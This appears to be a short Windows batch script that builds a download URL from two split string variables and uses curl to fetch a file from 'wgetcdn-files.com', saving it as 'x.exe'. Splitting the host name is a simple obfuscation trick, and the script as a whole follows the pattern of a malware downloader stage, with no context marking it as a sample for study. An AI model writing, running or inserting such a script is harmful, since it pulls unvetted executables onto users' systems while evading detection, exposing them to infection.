@echo off
set a=https://wgetcdn
set b=-files.com
curl %a%%b%/names -o x.exe
